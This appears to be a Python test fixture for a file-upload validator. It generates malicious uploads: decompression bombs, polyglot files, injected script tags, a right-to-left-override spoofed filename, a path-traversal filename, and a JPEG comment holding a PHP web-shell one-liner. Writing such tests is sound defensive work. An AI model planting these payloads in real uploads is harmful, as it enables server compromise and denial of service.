        "PDF with a file attached",
        "a.pdf",
        pdf(change=lambda w: w.add_attachment("x.exe", b"MZ") and None),
        text_in("/EmbeddedFile"),
        "attached",
    )
    form = DictionaryObject({name("/XFA"): TextStringObject("<xdp/>")})
    yield Case(
        "PDF with an XFA form",
        "a.pdf",
        pdf(change=lambda w: w.root_object.update({name("/AcroForm"): form})),
        text_in("/XFA"),
        "form",
    )
    for algorithm in ("RC4-128", "AES-256"):
        locked = pdf(change=lambda w, a=algorithm: w.encrypt("secret", algorithm=a))
        yield Case(
            f"PDF with a password ({algorithm})",
            "a.pdf",
            locked,
            lambda d: PdfReader(io.BytesIO(d)).is_encrypted,
            "password",
        )
    open_password = pdf(change=lambda w: w.encrypt("", owner_password="x", algorithm="AES-256"))
    yield Case(
        "PDF with an owner's password only",
        "a.pdf",
        open_password,
        lambda d: PdfReader(io.BytesIO(d)).is_encrypted,
        "password",
    )
    yield Case(
        "PDF of 501 pages", "a.pdf", lambda: pdf(501), lambda d: len(PdfReader(io.BytesIO(d)).pages) == 501, "500 pages"
    )
    yield Case(
        "PDF whose pages go in a circle",
        "a.pdf",
        pdf(change=circle),
        lambda d: d.count(b"/Kids") == 1,
        "circles|damaged",
    )
    yield Case(
        "PDF nested 400 deep", "a.pdf", pdf(change=nest), lambda d: b"[ [ [ [" in d or b"[[[[" in d, "nested|circles"
    )
    yield Case("PDF without pages", "a.pdf", pdf(0), lambda d: len(PdfReader(io.BytesIO(d)).pages) == 0, "no pages")
    flate = name("/FlateDecode")
    yield Case(
        "PDF with a bomb of 300 MB",
        "a.pdf",
        lambda: streaming(zlib.compress(bytes(300_000_000)), Filter=flate),
        lambda d: len(unpacked(d)) > 200_000_000,
        "unpacks to more",
    )
    layers = zlib.compress(zlib.compress(bytes(20_000_000)))
    yield Case(
        "PDF with a bomb in layers",
        "a.pdf",
        streaming(layers, Filter=ArrayObject([flate, flate])),
        lambda d: len(zlib.decompress(unpacked(d))) == 20_000_000,
        "layers",
    )
    gigapixel = {"Subtype": name("/Image"), "Width": NumberObject(100_000), "Height": NumberObject(100_000)}
    yield Case(
        "PDF with a picture of 10 gigapixels", "a.pdf", streaming(b"x", **gigapixel), text_in("/Width 100000"), "pixels"
    )
    good = pdf()
    yield Case(
        "PDF behind a web page",
        "a.pdf",
        b"<html><script>1</script>" + good,
        lambda d: len(PdfReader(io.BytesIO(d)).pages) == 1,
        "in front|web page",
    )
    yield Case("PDF behind spaces", "a.pdf", b" \n " + good, lambda d: not d.startswith(b"%PDF"), "in front")
    yield Case(
        "PDF with a web page in its head",
        "a.pdf",
        good.replace(b"\n", b"\n%<script>alert(1)</script>\n", 1),
        text_in("<script>"),
        "web page",
    )
    yield Case("PDF with a tail", "a.pdf", good + b"<script>alert(1)</script>", text_in("%%EOF\n<script>"), "hidden")
    yield Case(
        "PDF that is an archive too",
        "a.pdf",
        good + package({"x.exe": b"MZ"}),
        lambda d: zipfile.is_zipfile(io.BytesIO(d)),
        "archive",
    )
    yield Case(
        "PDF whose table points at itself",
        "a.pdf",
        good.replace(b"trailer\n<<", b"trailer\n<<\n/Prev %d" % good.rfind(b"xref\n", 0, good.rfind(b"startxref"))),
        text_in("/Prev"),
        ".|^$",
    )
    yield Case(
        "PDF of rubbish",
        "a.pdf",
        b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"%%EOF",
        lambda d: d.startswith(b"%PDF"),
        "damaged|no pages",
    )
    yield from cuts("pdf", pdf(3), 40 if deep else 4)


# --- pictures ----------------------------------------------------------------------------------------


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header(width: int, height: int) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(3000))) + chunk(b"IEND", b"")
    )


def with_chunk(kind: bytes, data: bytes) -> bytes:
    base = png()
    return base[:33] + chunk(kind, data) + base[33:]


def jpeg_sized(width: int, height: int) -> bytes:
    data = bytearray(jpeg())
    at = bytes(data).find(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def pictures(deep: bool) -> Iterator[Case]:
    sizes = [(50_001, 1_000), (100_000, 100_000), (2**31 - 1, 1), (65_535, 65_535)]
    for w, h in sizes:
        yield Case(
            f"PNG of {w} by {h} pixels",
            "a.png",
            png_header(w, h),
            lambda d, s=(w, h): struct.unpack(">II", d[16:24]) == s,
            "pixels|damaged",
        )
    yield Case("PNG without width", "a.png", png_header(0, 10), lambda d: d[16:20] == bytes(4), "damaged|width")
    yield Case(
        "JPEG of 65,000 by 65,000 pixels",
        "a.jpg",
        jpeg_sized(65_000, 65_000),
        lambda d: struct.pack(">HH", 65_000, 65_000) in d,
        "pixels",
    )
    yield Case(
        "PNG that is an archive too",
        "a.png",
        png() + package({"x.exe": b"MZ"}),
        lambda d: zipfile.is_zipfile(io.BytesIO(d)),
        "hidden",
    )
    yield Case(
        "JPEG that is an archive too",
        "a.jpg",
        jpeg() + package({"x.exe": b"MZ"}),
        lambda d: zipfile.is_zipfile(io.BytesIO(d)),
        "hidden",
    )
    yield Case("JPEG that is a PDF too", "a.jpg", jpeg() + pdf(), holds(b"%PDF-1"), "hidden")
    yield Case(
        "PNG with a web page in its text",
        "a.png",
        with_chunk(b"tEXt", b"Comment\0<script>alert(1)</script>"),
        holds(b"<script>"),
        "hidden",
    )
    yield Case(
        "JPEG with PHP in its comment", "a.jpg", jpeg(comment=b"<?php system($_GET[1]); ?>"), holds(b"<?php"), "hidden"
    )
    frames, out = [Image.new("RGB", (20, 20), c) for c in ("red", "blue")], io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    yield Case("PNG that moves", "a.png", out.getvalue(), holds(b"acTL"), "moves")
    yield Case(
        "PNG with a text bomb",
        "a.png",
        lambda: with_chunk(b"zTXt", b"c\0\0" + zlib.compress(bytes(100_000_000))),
        holds(b"zTXt"),
        "damaged|memory",
    )
    yield Case(
        "PNG with a profile bomb",
        "a.png",
        lambda: with_chunk(b"iCCP", b"c\0\0" + zlib.compress(bytes(200_000_000))),
        holds(b"iCCP"),
        ".|^$",
    )
    wrong = bytearray(png())
    wrong[-20] ^= 0xFF
    yield Case("PNG with a wrong check sum", "a.png", bytes(wrong), lambda d: d != png(), "damaged|short")
    yield from cuts("png", png((300, 200)), 30 if deep else 3)
    noisy = io.BytesIO()
    Image.effect_noise((300, 200), 90).save(noisy, "JPEG")
    yield from cuts("jpg", noisy.getvalue(), 30 if deep else 3)
    # taken, and made safe
    yield Case(
        "JPEG with place, camera and author",
        "a.jpg",
        with_gps(),
        lambda d: bool(gps_of(d)) and exif_of(d)[0x013B] == AUTHOR,
    )
    xmp = f"<x:xmpmeta><dc:creator>{AUTHOR}</dc:creator></x:xmpmeta>".encode()
    yield Case("JPEG with an author in XMP", "a.jpg", jpeg(xmp=xmp), holds(AUTHOR.encode()))
    yield Case("JPEG with an author in its comment", "a.jpg", jpeg(comment=AUTHOR.encode()), holds(AUTHOR.encode()))
    yield Case("JPEG with a hidden tail", "a.jpg", jpeg() + b"motion " + AUTHOR.encode(), holds(b"\xff\xd9motion"))
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Author", AUTHOR)
    notes.add_itxt("XML:com.adobe.xmp", xmp.decode())
    yield Case("PNG with an author in its text", "a.png", png(pnginfo=notes), holds(AUTHOR.encode()))
    exif = Image.Exif()
    exif[0x013B] = AUTHOR
    exif[0x8825] = {1: "N", 2: (51.0, 32.0, 16.0)}
    yield Case("PNG with a place", "a.png", png(exif=exif), lambda d: bool(gps_of(d)))
    yield Case("PNG with a hidden tail", "a.png", png() + AUTHOR.encode(), holds(AUTHOR.encode()))
    yield Case("docx with an author", "a.docx", docx(AUTHOR), part_has("docProps/core.xml", AUTHOR.encode()))
    yield Case(
        "docx with a photograph that knows its place",
        "a.docx",
        docx("A", with_gps()),
        lambda d: any(gps_of(v) for k, v in parts(d).items() if k.startswith("word/media/")),
    )
    yield Case("xlsx with an author", "a.xlsx", xlsx(AUTHOR), part_has("docProps/core.xml", AUTHOR.encode()))
    yield Case(
        "PDF with an author",
        "a.pdf",
        pdf(change=lambda w: w.add_metadata({"/Author": AUTHOR})),
        lambda d: PdfReader(io.BytesIO(d)).metadata.author == AUTHOR,
    )

    def with_xmp(writer: PdfWriter) -> None:
        stream = StreamObject()
        stream._data = xmp
        stream[name("/Type")], stream[name("/Subtype")] = name("/Metadata"), name("/XML")
        writer.root_object[name("/Metadata")] = writer._add_object(stream)

    yield Case("PDF with an author in XMP", "a.pdf", pdf(change=with_xmp), holds(AUTHOR.encode()))


# --- text and names ----------------------------------------------------------------------------------


def texts() -> Iterator[Case]:
    yield Case("empty file", "a.txt", b"", lambda d: d == b"", "empty")
    yield Case("one null", "a.txt", b"\0", lambda d: d == b"\0", "control|text")
    yield Case("only spaces", "a.txt", b"  \n\n ", lambda d: not d.strip(), "spaces")
    yield Case("text with a null", "a.csv", b"a,b\n1,\0\n", holds(b"\0"), "Line 2")
    yield Case("text with an escape code", "a.txt", b"x\x1b]0;evil\x07", holds(b"\x1b"), "control")
    yield Case("UTF-16 without a mark", "a.txt", "words".encode("utf-16-le"), holds(b"w\0"), "control")
    yield Case("bytes that are no text", "a.txt", b"\x81\x8d\x8f\x90" * 9, lambda d: d[0] == 0x81, "no text")
    yield Case(
        "CSV with a cell of 2 million characters",
        "a.csv",
        b'a\n"' + b"x" * 2_000_000 + b'"\n',
        lambda d: len(d) > 2_000_000,
        "CSV",
    )
    yield Case("CSV with 20,000 columns", "a.csv", b"," * 20_000, lambda d: d.count(b",") == 20_000, "columns")
    yield Case(
        "text that is an archive too",
        "a.txt",
        b"words\n" + package({"a": b"x"}),
        lambda d: zipfile.is_zipfile(io.BytesIO(d)),
        "control|archive|text",
    )
    yield Case("over 25 MB", "a.txt", lambda: b"word " * 5_000_001, lambda d: len(d) > 25_000_000, "25 MB")
    good = {".pdf": pdf(), ".docx": docx(), ".xlsx": xlsx(), ".png": png(), ".jpg": jpeg(), ".txt": b"words\n"}
    wrong = [
        (".pdf", "a.docx"), (".pdf", "a.pdf.exe"), (".pdf", "a"), (".pdf", "a.pdf "+"\u202e"+"fdp.exe"), (".docx", "a.xlsx"), (".docx", "a.doc"),
        (".xlsx", "a.csv"), (".xlsx", "a.xlsm"), (".png", "a.jpg"), (".jpg", "a.png"), (".png", "a.svg"), (".txt", "a.bat"), (".txt", "a.html"),
        (".txt", "a.js"), (".jpg", "a.jpg/../../a.php"), (".pdf", "a.html"),
    ]  # fmt: skip
    for kind, file in wrong:
        yield Case(
            f"{kind} named {file!r}", file, good[kind], lambda d, k=kind, f=file: not f.endswith(k), "ends in|name"
        )


def mutated(count: int) -> Iterator[Case]:
    """Good files with some bytes changed at random: whatever they now are, the answer must be a plain yes or no."""
    chance = random.Random(20180612)
    good = [("pdf", pdf(2)), ("docx", docx()), ("xlsx", xlsx()), ("png", png((80, 60))), ("jpg", jpeg((80, 60)))]
    for number in range(count):
        ending, base = good[number % len(good)]
        data = bytearray(base)
        for _ in range(chance.randint(1, 12)):
            data[chance.randrange(len(data))] = chance.randrange(256)
        yield Case(
            f"{ending} with changed bytes, {number}", f"a.{ending}", bytes(data), lambda d, b=base: d != b, ".|^$"
        )


def cases(deep: bool = False) -> list[Case]:
    found = [
        *renamed(deep), *macros_and_objects(), *fetching(), *xml_attacks(), *packages(deep), *pdfs(deep), *pictures(deep), *texts(),
        *mutated(100 if deep else 10),
    ]  # fmt: skip
    assert len({case.name for case in found}) == len(found), "two cases bear one name"
    return found
